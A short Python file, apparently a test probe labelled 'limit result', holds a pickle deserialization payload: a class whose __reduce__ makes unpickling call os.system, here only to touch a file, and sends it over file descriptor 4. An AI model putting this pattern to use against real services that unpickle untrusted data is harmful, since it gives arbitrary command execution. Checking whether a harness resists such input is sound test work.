# outcome: limit result
"""Sends a pickle that would run a command."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch pickled",)


def attack(target):
    os.write(4, pickle.dumps(Command()))
    return True
